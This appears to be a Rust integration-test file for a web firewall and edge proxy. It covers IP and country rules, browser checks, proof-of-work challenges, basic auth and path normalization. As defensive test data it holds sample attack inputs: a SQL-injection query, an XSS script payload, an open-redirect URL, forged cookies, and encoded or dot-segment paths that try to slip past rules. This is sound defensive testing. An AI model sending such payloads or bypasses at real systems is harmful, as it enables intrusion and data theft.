    let benign = r#"{"q":"hello world","n":1}"#;
    assert_from_origin(&exchange(edge.addr, &chunked(benign)));
    assert_eq!(origin.requests()[0].body, benign.as_bytes());
}

// ----------------------------------------------------------------- IP rules --

#[test]
fn ip_block_rule_blocks_the_client() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.ip_rules]]\nid = \"deny-local\"\nmatch = \"127.0.0.1/32\"\naction = \"block\"\n",
    ));
    let resp = get(edge.addr, "/");
    assert_branded(&resp, 403, "deny-local");
    assert!(resp.text().contains("IP access rule"), "{}", resp.text());
    assert_eq!(origin.requests().len(), 0);
}

#[test]
fn ip_allow_rule_skips_rules_waf_and_browser_check_but_not_auth() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "browser_check = true\n\
         [[zones.rules]]\nid = \"block-admin\"\nexpression = 'http.request.uri.path eq \"/admin\"'\naction = \"block\"\n\
         [[zones.ip_rules]]\nid = \"office\"\nmatch = \"127.0.0.0/8\"\naction = \"allow\"\n\
         [[zones.auth]]\npath_prefix = \"/private\"\nrealm = \"Private\"\nusers = [\"alice:secret\"]\n",
    ));
    assert_from_origin(&get(edge.addr, "/admin"));
    assert_from_origin(&get(
        edge.addr,
        "/p?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    ));
    // No User-Agent at all would fail the browser check; the allow rule skips it.
    assert_from_origin(&exchange(edge.addr, &request("GET", "/no-ua", "", "")));
    assert_eq!(origin.requests().len(), 3);
    // Basic auth is access control, not threat detection: still enforced.
    let resp = get(edge.addr, "/private/x");
    assert_eq!(resp.status, 401);
    assert_eq!(origin.requests().len(), 3);
}

#[test]
fn more_specific_ip_rule_wins() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.ip_rules]]\nid = \"deny-loopback\"\nmatch = \"127.0.0.0/8\"\naction = \"block\"\n\
         [[zones.ip_rules]]\nid = \"allow-me\"\nmatch = \"127.0.0.1\"\naction = \"allow\"\n\
         [[zones.ip_rules]]\nid = \"deny-other\"\nmatch = \"10.0.0.0/8\"\naction = \"block\"\n",
    ));
    assert_from_origin(&get(edge.addr, "/"));
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn ip_rule_for_another_network_does_not_match() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.ip_rules]]\nid = \"deny-doc\"\nmatch = \"203.0.113.0/24\"\naction = \"block\"\n\
         [[zones.ip_rules]]\nid = \"deny-v6\"\nmatch = \"2001:db8::/32\"\naction = \"block\"\n",
    ));
    assert_from_origin(&get(edge.addr, "/"));
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn ip_challenge_rule_serves_the_interstitial() {
    let origin = origin();
    let edge = Edgeward::start(&format!(
        "{}{CHALLENGE_SECTION}",
        config(
            origin.addr,
            "[[zones.ip_rules]]\nid = \"suspicious-net\"\nmatch = \"127.0.0.0/8\"\naction = \"challenge\"\n",
        )
    ));
    let resp = get(edge.addr, "/");
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());
    assert_eq!(origin.requests().len(), 0);
    // Solving it clears the client.
    let cookie = solve_challenge(edge.addr, &resp, BROWSER_UA, "/");
    assert_from_origin(&get_with(edge.addr, "/", &format!("Cookie: {cookie}\r\n")));
    assert_eq!(origin.requests().len(), 1);
}

#[test]
#[cfg_attr(not(has_ipv6_loopback), ignore = "this machine has no IPv6 loopback ([::1])")]
fn ipv6_cidr_rule_blocks_a_v6_client() {
    let origin = origin();
    let cfg = config(
        origin.addr,
        "[[zones.ip_rules]]\nid = \"deny-v6-loopback\"\nmatch = \"::1/128\"\naction = \"block\"\n",
    )
    .replace("listen = \"127.0.0.1:0\"", "listen = \"[::1]:0\"")
    .replace("\"127.0.0.1\"]", "\"127.0.0.1\", \"[::1]\"]");
    let edge = Edgeward::start(&cfg);
    assert!(edge.addr.is_ipv6(), "listening on {}", edge.addr);
    let resp = get(edge.addr, "/");
    assert_eq!(resp.status, 403, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert!(resp.text().contains("deny-v6-loopback"));
    assert!(resp.text().contains("::1"), "client IP shown: {}", resp.text());
    assert_eq!(origin.requests().len(), 0);
}

#[test]
fn country_rule_uses_the_geoip_csv() {
    let origin = origin();
    let csv = "cidr,country\n# loopback is country XX for this test\n127.0.0.0/8,XX\n203.0.113.0/24,AU\n";
    let block = format!(
        "{}\n[geoip]\ncsv = \"geo.csv\"\n",
        config(
            origin.addr,
            "[[zones.ip_rules]]\nid = \"embargo-xx\"\nmatch = \"country:XX\"\naction = \"block\"\n"
        )
    );
    let edge = Edgeward::start_with_files(&block, &[("geo.csv", csv)]);
    let resp = get(edge.addr, "/");
    assert_branded(&resp, 403, "embargo-xx");
    assert_eq!(origin.requests().len(), 0);
    drop(edge);

    // Another country's rule does not match; the country is also a rules field.
    let other = format!(
        "{}\n[geoip]\ncsv = \"geo.csv\"\n",
        config(
            origin.addr,
            "[[zones.ip_rules]]\nid = \"embargo-au\"\nmatch = \"country:au\"\naction = \"block\"\n\
             [[zones.rules]]\nid = \"legal-xx\"\nexpression = 'ip.geoip.country eq \"XX\" and http.request.uri.path eq \"/film\"'\n\
             action = \"legal_block\"\nblocked_by = \"https://regulator.example/\"\nexplanation = \"Not licensed in XX.\"\n"
        )
    );
    let edge = Edgeward::start_with_files(&other, &[("geo.csv", csv)]);
    assert_from_origin(&get(edge.addr, "/"));
    let resp = get(edge.addr, "/film");
    assert_eq!(resp.status, 451, "{}", resp.text());
    assert!(resp.text().contains("Not licensed in XX."));
    assert_eq!(origin.requests().len(), 1);
}

// ---------------------------------------------------- browser integrity check --

#[test]
fn browser_check_refuses_crude_bots() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, "browser_check = true\n"));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "no user agent",
            request("GET", "/", "Accept: */*\r\n", ""),
            "bic-100",
        ),
        (
            "empty user agent",
            request("GET", "/", "User-Agent: \r\nAccept: */*\r\n", ""),
            "bic-101",
        ),
        (
            "abusive agent",
            request(
                "GET",
                "/",
                "User-Agent: EmailCollector/1.0\r\nAccept: */*\r\n",
                "",
            ),
            "bic-102",
        ),
        (
            "libwww-perl",
            request("GET", "/", "User-Agent: libwww-perl/6.72\r\n", ""),
            "bic-102",
        ),
        (
            "browser without accept",
            request("GET", "/", &format!("User-Agent: {BROWSER_UA}\r\n"), ""),
            "bic-103",
        ),
        (
            "garbage xff",
            request(
                "GET",
                "/",
                &format!("{}X-Forwarded-For: 999.1.2.3.4\r\n", browser()),
                "",
            ),
            "bic-105",
        ),
    ];
    for (name, raw, rule) in &cases {
        let resp = exchange(edge.addr, raw);
        assert_eq!(resp.status, 403, "{name}: {}", resp.text());
        assert_eq!(resp.header("server"), Some("edgeward"), "{name}");
        assert!(
            resp.text().contains(rule),
            "{name}: expected {rule}: {}",
            resp.text()
        );
        assert!(resp.text().contains("127.0.0.1"), "{name}");
    }
    assert_eq!(origin.requests().len(), 0);
    assert_branded(&exchange(edge.addr, &cases[0].1), 403, "bic-100");
    // Real browsers and general-purpose tools pass.
    assert_from_origin(&get(edge.addr, "/"));
    assert_from_origin(&exchange(
        edge.addr,
        &request("GET", "/", "User-Agent: curl/8.5.0\r\nAccept: */*\r\n", ""),
    ));
    assert_from_origin(&get_with(
        edge.addr,
        "/",
        "X-Forwarded-For: 203.0.113.7, 10.0.0.1\r\n",
    ));
    assert_eq!(origin.requests().len(), 3);
}

#[test]
fn browser_check_is_off_by_default() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, ""));
    assert_from_origin(&exchange(edge.addr, &request("GET", "/", "", "")));
    assert_eq!(origin.requests().len(), 1);
}

// ---------------------------------------------------------------- challenge --

/// Solves the challenge in `challenged` as `ua`; the `name=value` clearance cookie.
fn solve_challenge(addr: SocketAddr, challenged: &Response, ua: &str, return_to: &str) -> String {
    let nonce = challenged
        .header("x-edgeward-challenge")
        .expect("a challenge nonce");
    let counter = edgeward_waf::solve_pow(nonce, 8);
    let form = format!(
        "nonce={}&counter={counter}&return={}",
        form_encode(nonce),
        form_encode(return_to)
    );
    let resp = exchange(
        addr,
        &request(
            "POST",
            "/.edgeward/challenge",
            &format!("User-Agent: {ua}\r\nAccept: text/html\r\nContent-Type: application/x-www-form-urlencoded\r\n"),
            &form,
        ),
    );
    assert_eq!(resp.status, 303, "solution refused: {}", resp.text());
    assert_eq!(resp.header("location"), Some(return_to));
    let set_cookie = resp.header("set-cookie").expect("Set-Cookie");
    assert!(set_cookie.starts_with("edgeward_clearance="), "{set_cookie}");
    assert!(set_cookie.contains("HttpOnly"), "{set_cookie}");
    set_cookie.split(';').next().unwrap().to_owned()
}

fn challenge_edge(origin: &TestOrigin) -> Edgeward {
    Edgeward::start(&format!(
        "{}{CHALLENGE_SECTION}",
        config(
            origin.addr,
            "[[zones.rules]]\nid = \"challenge-all\"\nexpression = 'starts_with(http.request.uri.path, \"/protected\")'\naction = \"challenge\"\n",
        )
    ))
}

#[test]
fn challenge_round_trip_grants_a_clearance_bound_to_client() {
    let origin = origin();
    let edge = challenge_edge(&origin);

    let challenged = get(edge.addr, "/protected/page");
    assert_eq!(challenged.status, 403);
    assert_eq!(origin.requests().len(), 0);
    let cookie = solve_challenge(edge.addr, &challenged, BROWSER_UA, "/protected/page");

    // The cookie lets this client through (alongside other cookies)...
    assert_from_origin(&get_with(
        edge.addr,
        "/protected/page",
        &format!("Cookie: {cookie}\r\n"),
    ));
    assert_from_origin(&get_with(
        edge.addr,
        "/protected/other",
        &format!("Cookie: a=1; {cookie}; b=2\r\n"),
    ));
    assert_eq!(origin_saw(&origin, "/protected"), 2);
    // ...and the origin still receives the cookie header it was sent.
    assert!(origin.requests()[0]
        .header("cookie")
        .is_some_and(|c| c.contains("edgeward_clearance=")));

    // The same cookie with another User-Agent: challenged again.
    let other_ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
    let resp = exchange(
        edge.addr,
        &request(
            "GET",
            "/protected/page",
            &format!("User-Agent: {other_ua}\r\nAccept: text/html\r\nCookie: {cookie}\r\n"),
            "",
        ),
    );
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());

    // A tampered cookie (last hex digit changed, or expiry pushed out): challenged again.
    let mut tampered = cookie.clone();
    let last = tampered.pop().unwrap();
    tampered.push(if last == '0' { '1' } else { '0' });
    let resp = get_with(edge.addr, "/protected/page", &format!("Cookie: {tampered}\r\n"));
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());
    let (name_expiry, mac) = cookie.split_once('.').unwrap();
    let expiry: u64 = name_expiry
        .trim_start_matches("edgeward_clearance=")
        .parse()
        .unwrap();
    let resp = get_with(
        edge.addr,
        "/protected/page",
        &format!("Cookie: edgeward_clearance={}.{mac}\r\n", expiry + 86_400),
    );
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());
    let resp = get_with(
        edge.addr,
        "/protected/page",
        "Cookie: edgeward_clearance=garbage\r\n",
    );
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());
    assert_eq!(origin_saw(&origin, "/protected"), 2);
}

#[test]
fn challenge_solutions_are_checked() {
    let origin = origin();
    let edge = challenge_edge(&origin);
    let challenged = get(edge.addr, "/protected");
    let nonce = challenged.header("x-edgeward-challenge").unwrap().to_owned();
    let good = edgeward_waf::solve_pow(&nonce, 8);
    let post = |nonce: &str, counter: u64, ua: &str, ret: &str| {
        let form = format!(
            "nonce={}&counter={counter}&return={}",
            form_encode(nonce),
            form_encode(ret)
        );
        exchange(
            edge.addr,
            &request(
                "POST",
                "/.edgeward/challenge",
                &format!("User-Agent: {ua}\r\nAccept: text/html\r\nContent-Type: application/x-www-form-urlencoded\r\n"),
                &form,
            ),
        )
    };
    // Insufficient work: solve_pow returns the smallest good counter, so the one before fails.
    if good > 0 {
        let resp = post(&nonce, good - 1, BROWSER_UA, "/protected");
        assert_eq!(resp.status, 403, "{}", resp.text());
        assert!(resp.header("set-cookie").is_none());
        assert!(resp.text().contains("challenge"), "{}", resp.text());
    }
    // A forged nonce (signature changed).
    let mut forged = nonce.clone();
    let last = forged.pop().unwrap();
    forged.push(if last == '0' { '1' } else { '0' });
    let resp = post(
        &forged,
        edgeward_waf::solve_pow(&forged, 8),
        BROWSER_UA,
        "/protected",
    );
    assert_eq!(resp.status, 403);
    assert!(resp.header("set-cookie").is_none());
    // The right solution from another User-Agent (a different client).
    let resp = post(&nonce, good, "curl/8.5.0", "/protected");
    assert_eq!(resp.status, 403);
    assert!(resp.header("set-cookie").is_none());
    // An open redirect is refused: the Location falls back to "/".
    let resp = post(&nonce, good, BROWSER_UA, "//evil.example/");
    assert_eq!(resp.status, 303);
    assert_eq!(resp.header("location"), Some("/"));
    // A malformed form.
    let resp = exchange(
        edge.addr,
        &request(
            "POST",
            "/.edgeward/challenge",
            &format!("User-Agent: {BROWSER_UA}\r\nContent-Type: application/x-www-form-urlencoded\r\n"),
            "hello",
        ),
    );
    assert_eq!(resp.status, 403);
    // GET on the endpoint: 405 with Allow: POST.
    let resp = get(edge.addr, "/.edgeward/challenge");
    assert_eq!(resp.status, 405);
    assert_eq!(resp.header("allow"), Some("POST"));
    assert_eq!(origin.requests().len(), 0);
}

#[test]
fn challenge_cookie_survives_a_keep_alive_connection_and_head() {
    let origin = origin();
    let edge = challenge_edge(&origin);
    let challenged = get(edge.addr, "/protected");
    let cookie = solve_challenge(edge.addr, &challenged, BROWSER_UA, "/protected");
    let mut conn = connect(edge.addr);
    let head = format!(
        "GET /protected/a HTTP/1.1\r\nHost: example.com\r\n{}Cookie: {cookie}\r\n\r\n\
         GET /protected/b HTTP/1.1\r\nHost: example.com\r\n{}\r\n",
        browser(),
        browser()
    );
    conn.write_all(head.as_bytes()).unwrap();
    let mut reader = BufReader::new(conn);
    let first = read_response(&mut reader, false).expect("first response");
    assert_from_origin(&first);
    let second = read_response(&mut reader, false).expect("second response");
    assert_eq!(second.status, 403, "the second request has no cookie");
    assert!(second.header("x-edgeward-challenge").is_some());
    let resp = exchange(edge.addr, &request("HEAD", "/protected/c", &browser(), ""));
    assert_eq!(resp.status, 403);
    assert!(resp.header("x-edgeward-challenge").is_some());
    assert_eq!(origin.requests().len(), 1);
}

// --------------------------------------------------------------- basic auth --

#[test]
fn basic_auth_challenges_and_explains_repeated_failures() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.auth]]\npath_prefix = \"/private\"\nrealm = \"Private\"\nusers = [\"alice:secret\", \
         \"bob:sha256:fb8c2e2b85ca81eb4350199faddd983cb26af3064614e737ea9f479621cfa57a\"]\n",
    ));
    // No credentials.
    let resp = get(edge.addr, "/private/report");
    assert_eq!(resp.status, 401, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert_eq!(
        resp.header("www-authenticate"),
        Some("Basic realm=\"Private\", charset=\"UTF-8\"")
    );
    assert!(resp.header("x-request-id").is_some());

    // Wrong credentials, first time: a plain 401.
    let wrong = basic("alice", "guess");
    let first = get_with(edge.addr, "/private/report", &wrong);
    assert_eq!(first.status, 401);
    assert_eq!(
        first.header("www-authenticate"),
        Some("Basic realm=\"Private\", charset=\"UTF-8\"")
    );
    // The same wrong credentials again: the body explains what is needed.
    let second = get_with(edge.addr, "/private/report", &wrong);
    assert_eq!(second.status, 401);
    assert!(second.header("www-authenticate").is_some());
    let body = second.text();
    assert!(
        body.contains("Private"),
        "repeated failure body names the realm:\n{body}"
    );
    assert!(
        body.contains("Basic"),
        "repeated failure body names the scheme:\n{body}"
    );
    // Compared without their request ids (each response has its own): the bodies differ in
    // what they say, not only in the id.
    let without_id = |r: &Response| r.text().replace(r.header("x-request-id").unwrap(), "");
    assert_ne!(
        without_id(&first),
        without_id(&second),
        "the repeated failure gets the helpful body"
    );
    // Different wrong credentials are a first failure again.
    let other = get_with(edge.addr, "/private/report", &basic("alice", "guess2"));
    assert_eq!(other.status, 401);
    assert_eq!(
        other.text().replace(other.header("x-request-id").unwrap(), ""),
        first.text().replace(first.header("x-request-id").unwrap(), "")
    );
    // Malformed headers count as wrong.
    assert_eq!(
        get_with(edge.addr, "/private/report", "Authorization: Bearer abc\r\n").status,
        401
    );
    assert_eq!(origin.requests().len(), 0);

    // Right credentials (plaintext and sha256-hashed): the origin answers.
    assert_from_origin(&get_with(edge.addr, "/private/report", &basic("alice", "secret")));
    assert_from_origin(&get_with(edge.addr, "/private/report", &basic("bob", "hunter3")));
    assert_eq!(origin_saw(&origin, "/private/report"), 2);
    // The origin sees the Authorization header (it is end-to-end).
    assert!(origin.requests()[0].header("authorization").is_some());
    // Outside the prefix: no credentials needed.
    assert_from_origin(&get(edge.addr, "/public"));
}

// --------------------------------------------------------------- branding --

#[test]
fn origin_403_passes_through_unbranded() {
    let origin = TestOrigin::fixed(
        "403 Forbidden By Origin",
        "Content-Type: text/plain\r\nX-Origin: yes\r\n",
        "origin says no",
    );
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"block-admin\"\nexpression = 'http.request.uri.path eq \"/admin\"'\naction = \"block\"\n",
    ));
    let resp = get(edge.addr, "/secret");
    assert_eq!(resp.status, 403);
    assert_eq!(resp.reason, "Forbidden By Origin");
    assert_eq!(resp.text(), "origin says no");
    assert_eq!(resp.header("x-origin"), Some("yes"));
    assert_eq!(resp.header("server"), None, "origin 403s are not branded");
    assert_eq!(origin_saw(&origin, "/secret"), 1);

    let edge_403 = get(edge.addr, "/admin");
    assert_branded(&edge_403, 403, "block-admin");
    assert_eq!(origin_saw(&origin, "/admin"), 0);
}

#[test]
fn protections_run_in_order_ip_then_rules_then_waf_then_bic_then_auth() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "browser_check = true\n\
         [[zones.rules]]\nid = \"block-x\"\nexpression = 'http.request.uri.path eq \"/x\"'\naction = \"block\"\n\
         [[zones.auth]]\npath_prefix = \"/\"\nrealm = \"All\"\nusers = [\"alice:secret\"]\n",
    ));
    // A custom rule decides before the WAF and the browser check.
    let resp = exchange(
        edge.addr,
        &request("GET", "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
    );
    assert_branded(&resp, 403, "block-x");
    // The WAF decides before the browser check.
    let resp = exchange(
        edge.addr,
        &request("GET", "/y?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
    );
    assert_waf_block(&resp, "waf-xss-2");
    // The browser check before auth.
    let resp = exchange(edge.addr, &request("GET", "/y", "", ""));
    assert_branded(&resp, 403, "bic-100");
    // Then auth.
    assert_eq!(get(edge.addr, "/y").status, 401);
    assert_from_origin(&get_with(edge.addr, "/y", &basic("alice", "secret")));
    assert_eq!(origin.requests().len(), 1);
}

// ------------------------------------------------- normalization and bypasses --

/// Paths an origin server resolves to `/admin` (RFC 3986 §6.2.2: percent-encoded
/// unreserved characters decode, dot segments are removed) — a path rule must see them
/// as `/admin` too, as Cloudflare's URL normalization does before rules run.
const ADMIN_ALIASES: [&str; 4] = ["/%61dmin", "/%61%64%6d%69%6e", "/./admin", "/x/../admin"];

#[test]
fn path_rules_cannot_be_bypassed_by_encoding_or_dot_segments() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"block-admin\"\nexpression = 'http.request.uri.path eq \"/admin\"'\naction = \"block\"\n",
    ));
    for path in ADMIN_ALIASES {
        let resp = get(edge.addr, path);
        assert_eq!(resp.status, 403, "{path} bypassed the block rule");
        assert!(resp.text().contains("block-admin"), "{path}");
    }
    assert_eq!(origin.requests().len(), 0, "{:?}", origin.requests());
}

#[test]
fn basic_auth_cannot_be_bypassed_by_encoding_or_dot_segments() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.auth]]\npath_prefix = \"/private\"\nrealm = \"Private\"\nusers = [\"alice:secret\"]\n",
    ));
    for path in [
        "/%70rivate/report",
        "/./private/report",
        "/x/../private/report",
        "/%2E/private/report",
    ] {
        let resp = get(edge.addr, path);
        assert_eq!(resp.status, 401, "{path} skipped Basic auth");
        assert!(resp.header("www-authenticate").is_some());
    }
    assert_eq!(origin.requests().len(), 0, "{:?}", origin.requests());
}

#[test]
fn cleared_challenge_does_not_skip_later_block_rules() {
    let origin = origin();
    let edge = Edgeward::start(&format!(
        "{}{CHALLENGE_SECTION}",
        config(
            origin.addr,
            "[[zones.rules]]\nid = \"challenge-app\"\nexpression = 'starts_with(http.request.uri.path, \"/app\")'\naction = \"challenge\"\n\
             [[zones.rules]]\nid = \"block-app-admin\"\nexpression = 'http.request.uri.path eq \"/app/admin\"'\naction = \"block\"\n",
        )
    ));
    let challenged = get(edge.addr, "/app/home");
    let cookie = solve_challenge(edge.addr, &challenged, BROWSER_UA, "/app/home");
    // The clearance satisfies the challenge rule...
    assert_from_origin(&get_with(
        edge.addr,
        "/app/home",
        &format!("Cookie: {cookie}\r\n"),
    ));
    // ...but proves only that the client is a browser: the block rule after it still applies.
    let resp = get_with(edge.addr, "/app/admin", &format!("Cookie: {cookie}\r\n"));
    assert_branded(&resp, 403, "block-app-admin");
    assert_eq!(origin_saw(&origin, "/app/admin"), 0);
}
